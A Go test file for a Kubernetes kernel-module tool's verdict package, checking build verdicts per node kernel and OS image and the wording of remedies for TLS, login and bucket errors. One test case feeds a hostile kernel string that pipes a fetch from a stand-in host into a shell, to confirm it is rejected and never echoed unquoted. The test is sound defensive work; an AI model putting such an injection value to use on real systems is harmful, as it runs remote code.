package verdict_test

import (
	"crypto/x509"
	"errors"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/kubeshark/kubeshark-pfring/internal/cluster"
	"github.com/kubeshark/kubeshark-pfring/internal/supply"
	"github.com/kubeshark/kubeshark-pfring/internal/verdict"
	"github.com/kubeshark/kubeshark-pfring/module"
	"github.com/kubeshark/kubeshark-pfring/outcome"
)

const debian = "Debian GNU/Linux 12 (bookworm)"

func node(kernel, arch, system string) cluster.Node {
	return cluster.Node{Name: "n", Kernel: kernel, Arch: arch, OS: "linux", OSImage: system, Ready: true}
}

func TestWhatTheControllerWillDoIsForetoldByItsRecipes(t *testing.T) {
	for name, test := range map[string]struct {
		supply verdict.Supply
		node   cluster.Node
		want   verdict.Can
		reason string
	}{
		"a recipe":                      {verdict.Supply{}, node("6.1.0-18-amd64", "amd64", debian), verdict.WillBeBuilt, verdict.ToBeBuilt},
		"no recipe":                     {verdict.Supply{}, node("6.1.0", "amd64", "Buildroot 2021"), verdict.CannotBeBuilt, verdict.BuildUnsupported},
		"a script of one's own":         {verdict.Supply{AnySystem: true}, node("6.1.0", "amd64", "Buildroot 2021"), verdict.WillBeBuilt, verdict.ToBeBuilt},
		"a kernel that is too new":      {verdict.Supply{}, node("99.1.0", "amd64", debian), verdict.Unknown, verdict.BuildUntried},
		"a hostile kernel":              {verdict.Supply{}, node("6.1$(curl evil|sh)", "amd64", debian), verdict.CannotBeBuilt, verdict.BuildUnsupported},
		"no system":                     {verdict.Supply{}, node("6.1.0", "amd64", ""), verdict.Unknown, verdict.BuildUntried},
		"an unread status":              {verdict.Supply{Unread: "forbidden"}, node("6.1.0", "amd64", debian), verdict.Unknown, verdict.SupplyUnknown},
		"another architecture":          {verdict.Supply{}, node("6.1.0", "s390x", debian), verdict.No, verdict.ArchUnsupported},
		"built":                         {supplyOf(supply.KernelStatus{State: supply.Built, Version: "8.9.0"}), node("6.1.0", "amd64", debian), verdict.Yes, ""},
		"building":                      {supplyOf(supply.KernelStatus{State: supply.Building, Step: "compile"}), node("6.1.0", "amd64", debian), verdict.WillBeBuilt, verdict.Building},
		"failed":                        {supplyOf(supply.KernelStatus{State: supply.Failed, Message: "no headers", Remedy: "Add them."}), node("6.1.0", "amd64", debian), verdict.CannotBeBuilt, verdict.BuildFailed},
		"unsupported":                   {supplyOf(supply.KernelStatus{State: supply.Unsupported, Reason: supply.NoRecipe}), node("6.1.0", "amd64", debian), verdict.CannotBeBuilt, verdict.BuildUnsupported},
		"a state of a newer controller": {supplyOf(supply.KernelStatus{State: "blessed"}), node("6.1.0", "amd64", debian), verdict.Unknown, verdict.SupplyUnknown},
	} {
		judge, a := verdict.NewJudge(), verdict.Answer{}
		if judge.Asks(test.node) {
			a = test.supply.Lookup([]cluster.Node{test.node})(test.node.Kernel, test.node.Arch)
		}
		v := judge.Node(test.node, a)
		if v.Supported != test.want || v.Reason != test.reason {
			t.Errorf("%s: %s (%s), want %s (%s)", name, v.Supported, v.Reason, test.want, test.reason)
		}
		if !v.Supported.Good() && v.Message == "" || v.Supported == verdict.CannotBeBuilt && v.Remedy == "" {
			t.Errorf("%s says neither why nor what to do: %+v", name, v)
		}
		if strings.Contains(v.Message, "--") {
			t.Errorf("%s names a flag of another command: %s", name, v.Message)
		}
		if strings.Contains(v.Remedy, "$(curl") && !strings.Contains(v.Remedy, "'") {
			t.Errorf("%s: a command that must not be pasted: %s", name, v.Remedy)
		}
	}
}

func supplyOf(k supply.KernelStatus) verdict.Supply {
	k.Kernel, k.Arch = "6.1.0", "amd64"
	return verdict.Supply{Status: &supply.Status{Kernels: []supply.KernelStatus{k}}}
}

func TestTheSourceGoesBeforeTheController(t *testing.T) {
	answers := func(c verdict.Can) verdict.Lookup {
		return func(string, string) verdict.Answer {
			return verdict.Answer{Supported: c, Present: c == verdict.Yes, Reason: string(c)}
		}
	}
	for _, test := range []struct{ first, then, want verdict.Can }{
		{verdict.Yes, verdict.CannotBeBuilt, verdict.Yes}, {verdict.No, verdict.WillBeBuilt, verdict.WillBeBuilt},
		{verdict.No, verdict.CannotBeBuilt, verdict.CannotBeBuilt}, {verdict.Unknown, verdict.CannotBeBuilt, verdict.Unknown},
		{verdict.Unknown, verdict.WillBeBuilt, verdict.WillBeBuilt},
	} {
		if got := verdict.Or(answers(test.first), answers(test.then))("6.1.0", "amd64").Supported; got != test.want {
			t.Errorf("%s, then %s: %s, want %s", test.first, test.then, got, test.want)
		}
	}
}

// A remedy is made from what the server said and from who asks.
func TestTheCallerIsToldWhatTheCallerCanDo(t *testing.T) {
	fault := func(reason outcome.Reason, why, do string, err error) *module.Error {
		return &module.Error{Reason: reason, What: "fetch index.json", Where: "https://h", Why: why, Do: do, Err: err}
	}
	past, future := time.Now().Add(-time.Hour), time.Now().Add(time.Hour)
	for name, test := range map[string]struct {
		err    *module.Error
		caller verdict.Caller
		want   string
	}{
		"an unknown CA":                        {fault(outcome.SourceTLSUntrusted, "", "", x509.UnknownAuthorityError{}), verdict.Caller{}, "--ca-file FILE."},
		"an unknown CA, and one in the values": {fault(outcome.SourceTLSUntrusted, "", "", x509.UnknownAuthorityError{}), verdict.Caller{Named: true}, "--use-cluster-secrets"},
		"another CA":                           {fault(outcome.SourceTLSUntrusted, "", "", x509.UnknownAuthorityError{}), verdict.Caller{CAFile: "ca.pem"}, "the one in ca.pem did not"},
		"another host name":                    {fault(outcome.SourceTLSUntrusted, "", "", x509.HostnameError{Certificate: &x509.Certificate{}}), verdict.Caller{FromFlag: true}, "in --source"},
		"expired":                              {fault(outcome.SourceTLSUntrusted, "", "", x509.CertificateInvalidError{Reason: x509.Expired, Cert: &x509.Certificate{NotAfter: past}}), verdict.Caller{}, "has expired"},
		"not yet valid":                        {fault(outcome.SourceTLSUntrusted, "", "", x509.CertificateInvalidError{Reason: x509.Expired, Cert: &x509.Certificate{NotBefore: future}}), verdict.Caller{}, "check the clock"},
		"an expired login":                     {fault(outcome.SourceForbidden, "403: Your authorization token has expired", "", nil), verdict.Caller{}, "log in again"},
		"a region":                             {fault(outcome.SourceForbidden, "301", "Set source.region to eu-west-1.", nil), verdict.Caller{}, "Set source.region to eu-west-1."},
		"a bucket that is not there":           {fault(outcome.SourceInvalid, "404 NoSuchBucket", "Check the bucket in tap.kernelModule.source.url, and source.endpoint.", nil), verdict.Caller{FromFlag: true}, "Check the bucket in --source, and source.endpoint."},
		"a region, for mirror":                 {fault(outcome.SourceInvalid, "301", "Set tap.kernelModule.source.region to the bucket's region.", nil), verdict.Caller{Argument: true}, "Set --region to the bucket's region."},
		"a certificate, without --ca-file":     {fault(outcome.SourceTLSUntrusted, "", "", x509.UnknownAuthorityError{}), verdict.Caller{Argument: true, NoCAFile: true}, "on this machine"},
		"the nodes' Secret":                    {fault(outcome.SourceForbidden, "401", "Check imageRepoSecret or source.credentialsSecret: its login must be allowed to pull.", nil), verdict.Caller{}, "docker login"},
		"a bucket's expired login":             {fault(outcome.SourceForbidden, "400 ExpiredToken: The provided token has expired", "", nil), verdict.Caller{}, "log in again (aws sso login)"},
		"no login":                             {fault(outcome.SourceForbidden, "403", "", nil), verdict.Caller{}, "docker login"},
		"an unknown name":                      {fault(outcome.SourceUnreachable, "", "", &net.DNSError{IsNotFound: true}), verdict.Caller{NoEgress: true}, "--no-egress"},
		"silence":                              {fault(outcome.SourceTimeout, "", "", errors.New("x")), verdict.Caller{}, "--source-timeout"},
		"nothing there":                        {fault(outcome.SourceInvalid, "the file does not exist", "", module.ErrNotFound), verdict.Caller{}, "tap.kernelModule.source.url"},
	} {
		if got := test.caller.Remedy(test.err); !strings.Contains(got, test.want) || strings.Contains(got, "source.caBundle") || strings.Contains(got, "from the node") {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
	}
	s3 := fault(outcome.SourceForbidden, "403", "", nil)
	s3.Where = "s3://bucket/nothing"
	if got := (verdict.Caller{}).Remedy(s3); !strings.Contains(got, "s3:ListBucket") {
		t.Errorf("%q names one of two causes", got)
	}
}

// A Node object has no uname -v, but tells which Ubuntu the node runs, as Ubuntu's
// kernels for an older one do.
func TestABuildForAnotherUbuntuIsNoModuleForTheNode(t *testing.T) {
	const jammy, noble = "#40~22.04.3-Ubuntu SMP PREEMPT_DYNAMIC", "#40-Ubuntu SMP PREEMPT_DYNAMIC"
	for name, test := range map[string]struct {
		system string
		builds []string
		want   verdict.Can
	}{
		"its own":              {"Ubuntu 22.04.4 LTS", []string{jammy}, verdict.Yes},
		"another's":            {"Ubuntu 24.04 LTS", []string{jammy}, verdict.No},
		"one of two":           {"Ubuntu 24.04 LTS", []string{jammy, noble}, verdict.Yes},
		"does not say which":   {"Ubuntu 22.04.4 LTS", []string{noble}, verdict.Yes},
		"another distribution": {debian, []string{jammy}, verdict.Yes},
		"any build":            {"Ubuntu 24.04 LTS", nil, verdict.Yes},
	} {
		v := verdict.NewJudge().Node(node("6.8.0-40-generic", "amd64", test.system), verdict.Answer{Supported: verdict.Yes, Present: true, Builds: test.builds})
		if v.Supported != test.want || (test.want == verdict.No) != (v.Reason == string(outcome.OtherBuild) && v.Remedy != "") {
			t.Errorf("%s: %+v", name, v)
		}
	}
}
